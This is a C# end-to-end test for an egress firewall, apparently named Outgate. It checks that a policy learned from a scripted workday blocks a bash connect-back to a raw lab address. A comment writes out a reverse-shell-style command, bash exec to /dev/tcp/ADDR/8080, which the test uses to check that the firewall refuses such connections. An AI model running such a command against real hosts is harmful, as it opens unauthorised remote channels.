using Outgate.EndToEnd.Tests.Decisions;
using Outgate.EndToEnd.Tests.Domains;
using Outgate.Testing;

namespace Outgate.EndToEnd.Tests.Workday;

/// <summary>
/// Issue 8's proof, end to end in namespaces with a real dnsmasq and a real daemon: a scripted
/// workday in learn mode (HTTP-like fetches by name, an SSH-like session, NTP, and the DNS lookups
/// under them) plus one connect-back shell to a raw address; `policy propose` covers the workday and
/// not the connect-back; `policy simulate` of the proposal breaks nothing; enforced, the same workday
/// passes and the connect-back is refused.
/// </summary>
public sealed class WorkdayTests
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Fact]
    public async Task Learn_propose_simulate_enforce_keeps_the_workday_and_refuses_the_connect_back()
    {
        await using var lab = await DomainLab.CreateAsync("work");
        await lab.RuleAsync("default", "allow", "outgoing"); // learn mode: nothing is blocked
        await lab.RuleAsync("enable");
        await lab.AddServerAddressAsync(lab.V4(ConnectBackHost)); // an address no DNS name points to
        await lab.StartDaemonAsync("learn");

        await WorkdayAsync(lab);
        Assert.True(await ConnectBackAsync(lab), "in learn mode even the connect-back gets through (it is recorded)");
        await lab.WaitForDecisionAsync("the connect-back's decision", e => (string?)e["exe"] == DecisionLab.Bash && (string?)e["dst"] == lab.V4(ConnectBackHost));

        var dir = Directory.CreateTempSubdirectory("og-workday-").FullName;
        try
        {
            var proposal = Path.Combine(dir, "proposal.toml");
            var propose = await lab.Decisions.CliAsync("policy", "propose", "--since", "1h", "--output", proposal);
            Assert.True(propose.ExitCode == 0, propose.ToString());
            var toml = await File.ReadAllTextAsync(proposal, Ct);
            Assert.Contains(TestZone.Allowed, toml, StringComparison.Ordinal);
            Assert.DoesNotContain(DecisionLab.Bash, toml.Split('\n').Where(l => !l.TrimStart().StartsWith('#')).Aggregate("", (a, l) => a + l + "\n"), StringComparison.Ordinal);
            Assert.Contains(lab.V4(ConnectBackHost), propose.StdErr, StringComparison.Ordinal); // listed for review

            var simulate = await lab.Decisions.CliAsync("policy", "simulate", proposal, "--since", "1h");
            Assert.True(simulate.ExitCode == 0, $"the proposal breaks nothing of the workday:\n{simulate}");

            // Enforce the proposal: it is a complete outgate.toml.
            File.Copy(proposal, Path.Combine(lab.Decisions.Cli.ConfigDir, "outgate.toml"), overwrite: true);
            await lab.RuleAsync("reload");
            await lab.DaemonCliOkAsync("mode", "enforce");
            await Task.Delay(1000, Ct); // the daemon's policy watcher picks the file up

            await WorkdayAsync(lab);
            Assert.False(await ConnectBackAsync(lab), "enforced, the connect-back is refused");
        }
        finally
        {
            Directory.Delete(dir, recursive: true);
        }
    }

    /// <summary>Each step resolves its name through glibc (the DNS lookups are part of the day) and must get through.</summary>
    private static async Task WorkdayAsync(DomainLab lab)
    {
        await lab.AssertOpensAsync(TestZone.Allowed, 80, "package-manager-like fetch");
        await lab.AssertOpensAsync(TestZone.Other, 443, "HTTPS fetch");
        await lab.AssertOpensAsync(TestZone.Allowed, 22, "SSH-like session");
        var ntp = await lab.Client.ExecAsync(DecisionLab.Python, "-c",
            "import socket,sys; a=socket.getaddrinfo(sys.argv[1],123,socket.AF_INET,socket.SOCK_DGRAM)[0][4]; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(3); s.sendto(b'ntp',a); print('open' if s.recv(16)==b'ntp' else 'bad')",
            TestZone.Ntp);
        Assert.True(ntp.StdOut.Trim() == "open", $"NTP-like query over udp 123:\n{ntp}");
    }

    private const int ConnectBackHost = 99;

    /// <summary>`bash -c 'exec 3<>/dev/tcp/ADDR/8080'`: a shell dialling an address it carries with it, no DNS.</summary>
    private static Task<bool> ConnectBackAsync(DomainLab lab) =>
        lab.Decisions.ConnectAsync(DecisionLab.Bash, 8080, timeoutSeconds: 2, host: lab.V4(ConnectBackHost));
}
